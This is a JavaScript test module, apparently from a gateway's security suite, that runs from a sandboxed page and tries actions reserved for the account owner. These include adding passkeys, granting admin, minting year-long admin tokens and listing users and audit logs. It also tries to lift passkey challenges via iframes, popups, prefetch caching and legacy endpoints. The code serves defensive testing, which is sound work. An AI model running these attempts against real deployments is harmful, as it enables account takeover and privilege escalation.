// Tries to do what only the person may do.
import { attempt } from "./attack.js";

const decode = (text) => Uint8Array.from(atob(text.replace(/-/g, "+").replace(/_/g, "/")), (it) => it.charCodeAt(0));
const encode = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");

// A prompt of the gateway's own passkey, which the authenticator confirms.
async function prompt({ publicKey }) {
  const allowCredentials = (publicKey.allowCredentials ?? []).map((it) => ({ ...it, id: decode(it.id) }));
  const made = await navigator.credentials.get({ publicKey: { ...publicKey, challenge: decode(publicKey.challenge), allowCredentials } });
  const { authenticatorData, clientDataJSON, signature, userHandle } = made.response;
  const response = { authenticatorData: encode(authenticatorData), clientDataJSON: encode(clientDataJSON), signature: encode(signature), userHandle: userHandle && encode(userHandle) };
  return { id: made.id, rawId: encode(made.rawId), type: made.type, response, extensions: {} };
}

export async function acts({ gateway, user, other, passkey }) {
  const call = (method, path, body, extra = {}) =>
    fetch(gateway + path, { method, credentials: "include", headers: { "content-type": "application/json" }, body: body && JSON.stringify(body), ...extra });
  const done = async (response) => (response.ok ? `${response.status} ${await response.text()}` : null);

  const list = [
    { act: "add_passkey", name: "mine" },
    { act: "rename_passkey", passkey_id: passkey, name: "mine" },
    { act: "remove_passkey", passkey_id: passkey },
    { act: "renew_recovery_codes" },
    { act: "invite" },
    { act: "end_other_sessions" },
    { act: "set_access", user_id: user, role: "live", access: "public" },
    { act: "swap", user_id: user },
    { act: "swap", workspace: "ada" },
    { act: "invite", admin: true, username: "mallory2" },
    { act: "revoke_invite", invite_id: user },
    { act: "rename_user", user_id: user, username: "mallory3" },
    { act: "set_admin", user_id: other, admin: true },
    { act: "disable_user", user_id: other },
    { act: "enable_user", user_id: other },
    { act: "end_user_sessions", user_id: user },
    { act: "recovery_link", user_id: user },
    { act: "add_member", workspace: "ada", username: "mallory@example.org" },
    { act: "remove_member", workspace: "ada", user_id: user },
    { act: "remove_user", user_id: other },
    { act: "create_token", name: "mine", scopes: ["admin"], days: 365 },
  ];
  for (const act of list) {
    await attempt(`${act.act} by an act`, async () => {
      const started = await call("POST", "/auth/acts/start", act);
      if (!started.ok) return null;
      const { id, publicKey, confirm } = await started.json();
      const options = publicKey ? { publicKey } : await behind(gateway + confirm);
      return done(await call("POST", "/auth/acts/finish", { id, credential: await prompt(options) }));
    });
    await attempt(`${act.act} without a look at the response`, async () => {
      const plain = { mode: "no-cors", headers: { "content-type": "text/plain" } };
      await call("POST", "/auth/acts/start", act, plain);
      return null; // What it did is looked at on the server.
    });
  }
  // At one origin for all, what a page of ours may read or do without a passkey a sandbox's may, too.
  for (const path of gateway ? ["/api", "/.choiros/api"] : []) {
    for (const list of ["users", "invites", "audit", "workspaces?all=true"]) {
      await attempt(`${list} at ${path}`, async () => {
        const told = await done(await call("GET", `${path}/${list}`));
        return told?.includes("@example.org") ? told : null;
      });
    }
    await attempt(`another workspace by ${path}`, async () => done(await call("POST", `${path}/workspaces/sandbox/choose`, {})));
  }
  await attempt("an act without a passkey, as programs do it", async () => done(await call("POST", "/.choiros/api/acts", { act: "set_admin", user_id: other, admin: true })));
  await attempt("a passkey by the old way", async () => done(await call("POST", "/auth/passkeys/start", { name: "mine" })));
  await attempt("a new name by the old way", async () => done(await call("PATCH", `/auth/passkeys/${passkey}`, { name: "mine" })));
  await attempt("a removal by the old way", async () => done(await call("DELETE", `/auth/passkeys/${passkey}`)));
  await attempt("codes by the old way", async () => done(await call("POST", "/auth/recovery/codes", {})));
  await attempt("an invite by the old way", async () => done(await call("POST", "/auth/invites", {})));
  await attempt("a swap by the old way", async () => done(await call("POST", `/admin/sandboxes/${user}/swap`, {})));
}

// The challenge that the gateway's confirm page has.
async function behind(url) {
  const found = (text) => {
    const data = text.match(/<script type="application\/json" id="act">([^]*?)<\/script>/);
    const options = data && JSON.parse(data[1]);
    return options?.publicKey ? options : null;
  };
  for (const mode of ["same-origin", "cors", "no-cors", "navigate"]) {
    const text = await fetch(url, { mode, credentials: "include" }).then((it) => it.text(), () => "");
    if (found(text)) return found(text);
  }
  for (const name of ["iframe", "object", "embed"]) {
    const frame = document.createElement(name);
    frame[name === "object" ? "data" : "src"] = url;
    document.body.append(frame);
    await new Promise((loaded) => ((frame.onload = loaded), setTimeout(loaded, 500)));
    const text = await Promise.resolve().then(() => frame.contentDocument.documentElement.outerHTML).catch(() => "");
    if (found(text)) return found(text);
  }
  const link = Object.assign(document.createElement("link"), { rel: "prefetch", href: url, as: "document" });
  document.head.append(link);
  await new Promise((over) => setTimeout(over, 300));
  const cached = await fetch(url, { cache: "force-cache" }).then((it) => it.text(), () => "");
  if (found(cached)) return found(cached);
  const popup = window.open(url);
  await new Promise((over) => setTimeout(over, 700));
  const text = await Promise.resolve().then(() => popup.document.documentElement.outerHTML).catch(() => "");
  if (found(text)) return found(text);
  throw new Error("the challenge is out of reach");
}
